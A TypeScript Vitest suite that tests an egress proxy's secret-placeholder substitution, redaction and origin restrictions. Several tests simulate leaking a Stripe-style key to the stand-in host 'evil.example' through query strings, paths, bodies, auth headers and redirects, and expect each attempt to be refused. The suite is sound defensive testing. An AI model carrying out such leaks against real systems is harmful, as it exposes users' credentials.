import { afterAll, beforeAll, beforeEach, expect, it } from "vitest";

import {
  assignment,
  echo,
  namesLeadTo,
  openEgress,
  type OpenEgress,
  PUBLIC,
  type Site,
  startSite,
} from "../../support/egress-site.ts";

const STRIPE = 'sk_live_"quoted"/value';
const CORE = "core-value-12345";
const ACME = "0198c5a0-0000-7000-8000-00000000000a";
const GLOBEX = "0198c5a0-0000-7000-8000-00000000000b";

let site: Site;
let world: OpenEgress;
const open: OpenEgress[] = [];

const openFor = (organizationId: string): OpenEgress => {
  const next = openEgress(
    `
upstreams: { core: { url: "http://127.0.0.1:${site.port}/core/", token: job } }
egress:
  allow: ["http://api.stripe.example:${site.port}", "http://evil.example:${site.port}"]
secrets:
  stripe_key:
    value: ${JSON.stringify(STRIPE)}
    organizations: [${ACME}]
    origins: ["http://api.stripe.example:${site.port}"]
  core_key: { value: ${CORE}, upstreams: [core] }
`,
    {
      network: namesLeadTo(PUBLIC),
      assignment: assignment({
        ref: { organizationId, jobId: "job", attempt: 1, leaseToken: "lease" },
      }),
    },
  );
  open.push(next);
  return next;
};

const stripe = (path = "/"): string => `http://api.stripe.example:${site.port}${path}`;
const evil = (path = "/"): string => `http://evil.example:${site.port}${path}`;
const placeholder = (name: string): string => world.secrets[name] ?? "";
const base64 = (text: string): string => Buffer.from(text).toString("base64");

/** What arrived, as the site heard it. */
let bodies: string[] = [];

beforeAll(async () => {
  site = await startSite((request, response) => {
    const to = new URL(request.url ?? "", "http://site").searchParams.get("to");
    if (to !== null) {
      response.writeHead(307, { location: to }).end();
      return;
    }
    request.setEncoding("utf8").on("data", (chunk: string) => bodies.push(chunk));
    echo(request, response);
  });
});

beforeEach(() => {
  bodies = [];
  world = openFor(ACME);
});

afterAll(async () => {
  for (const { stop } of open) await stop();
  await site.close();
});

it("a script sees placeholders, other ones in each attempt, of the secrets of its organization", () => {
  expect(Object.keys(world.secrets)).toEqual(["stripe_key", "core_key"]);
  expect(placeholder("stripe_key")).toMatch(/^mrs_[\w-]{24}$/);
  expect(openFor(ACME).secrets["stripe_key"]).not.toBe(placeholder("stripe_key"));
  expect(Object.keys(openFor(GLOBEX).secrets)).toEqual(["core_key"]);
});

it("the value is put into headers, also into basic credentials", async () => {
  await world.fetch(stripe(), {
    headers: [["authorization", `Bearer ${placeholder("stripe_key")}`]],
  });
  expect(site.heard.at(-1)?.headers.authorization).toBe(`Bearer ${STRIPE}`);
  const basic = `Basic ${base64(`${placeholder("stripe_key")}:`)}`;
  await world.fetch(stripe(), { headers: [["authorization", basic]] });
  expect(site.heard.at(-1)?.headers.authorization).toBe(`Basic ${base64(`${STRIPE}:`)}`);
});

it("the value is put into path and query", async () => {
  const key = placeholder("stripe_key");
  await world.fetch(stripe(`/bot${key}/x?key=${key}&a=b`));
  const encoded = encodeURIComponent(STRIPE);
  expect(site.heard.at(-1)?.url).toBe(`/bot${encoded}/x?key=${encoded}&a=b`);
});

it.each([
  ["application/json", (key: string) => `{"key":"${key}"}`, JSON.stringify({ key: STRIPE })],
  ["application/vnd.x+json", (key: string) => `["${key}"]`, JSON.stringify([STRIPE])],
  [
    "application/x-www-form-urlencoded",
    (key: string) => `key=${key}&b=ä`,
    `key=${encodeURIComponent(STRIPE)}&b=ä`,
  ],
  ["text/plain", (key: string) => `ä ${key} ä`, `ä ${STRIPE} ä`],
])("the value is put into a body of %s as it is written there", async (type, body, expected) => {
  await world.fetch(stripe(), {
    method: "POST",
    headers: [["content-type", type]],
    body: base64(body(placeholder("stripe_key"))),
  });
  expect(bodies.join("")).toBe(expected);
});

it("what is echoed comes back without the value", async () => {
  const key = placeholder("stripe_key");
  const { text, url } = await world.fetch(stripe(`/?key=${key}`), {
    method: "POST",
    headers: [["x-key", key]],
    body: base64(key),
  });
  for (const form of [STRIPE, encodeURIComponent(STRIPE), JSON.stringify(STRIPE).slice(1, -1)]) {
    expect(text + url).not.toContain(form);
  }
  expect(text).toContain("[redacted]");
});

it("a placeholder that goes where its secret may not go is refused, and nothing is sent", async () => {
  const before = site.requests.length;
  const key = placeholder("stripe_key");
  const message = `egress.denied: the secret stripe_key may not be sent to http://evil.example:${site.port}`;
  const post = { method: "POST", body: base64(`{"key":"${key}"}`) };
  expect(await world.refusal(evil(`/?key=${key}`))).toBe(message);
  expect(await world.refusal(evil(`/${key}`))).toBe(message);
  expect(await world.refusal(evil(), post)).toBe(message);
  expect(await world.refusal(evil(), { headers: [["x-key", key]] })).toBe(message);
  const basic = `Basic ${base64(`user:${key}`)}`;
  expect(await world.refusal(evil(), { headers: [["Authorization", basic]] })).toBe(message);
  expect(await world.refusal("upstream://core/", { headers: [["x-key", key]] })).toMatch(
    /may not be sent to upstream:\/\/core$/,
  );
  expect(site.requests.length).toBe(before);
});

it("a placeholder of another attempt is a text like any other", async () => {
  const other = openFor(ACME).secrets["stripe_key"] ?? "";
  await world.fetch(evil(), { headers: [["x-key", other]] });
  expect(site.heard.at(-1)?.headers["x-key"]).toBe(other);
});

it("a redirect to another origin does not take the secret along", async () => {
  const key = placeholder("stripe_key");
  const to = encodeURIComponent(evil("/next"));
  await world.fetch(stripe(`/?to=${to}`), {
    headers: [
      ["x-key", key],
      ["x-other", "kept"],
    ],
  });
  const { headers = {} } = site.heard.at(-1) ?? {};
  expect(headers).toMatchObject({ host: `evil.example:${site.port}`, "x-other": "kept" });
  expect(headers["x-key"]).toBeUndefined();

  const before = site.requests.length;
  const body = { method: "POST", body: base64(key) };
  expect(await world.refusal(stripe(`/?to=${to}`), body)).toMatch(
    /may not be sent to http:\/\/evil/,
  );
  expect(site.requests.length).toBe(before + 1);
});

it("a redirect that carries the value itself elsewhere is refused", async () => {
  const before = site.requests.length;
  const to = encodeURIComponent(evil("/?key="));
  const url = stripe(`/?to=${to}${encodeURIComponent(placeholder("stripe_key"))}`);
  expect(await world.refusal(url)).toBe(
    "egress.denied: a redirect carries a secret to where it may not go",
  );
  expect(site.requests.length).toBe(before + 1);
});
